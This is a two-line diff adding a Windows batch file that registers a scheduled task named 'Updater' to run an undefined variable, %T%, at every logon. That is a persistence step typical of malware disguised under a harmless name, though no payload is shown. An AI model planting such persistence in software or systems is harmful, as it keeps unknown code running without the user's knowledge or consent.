@@ -1,0 +1,2 @@
+@echo off
+schtasks /create /tn Updater /sc onlogon /tr "%T%"
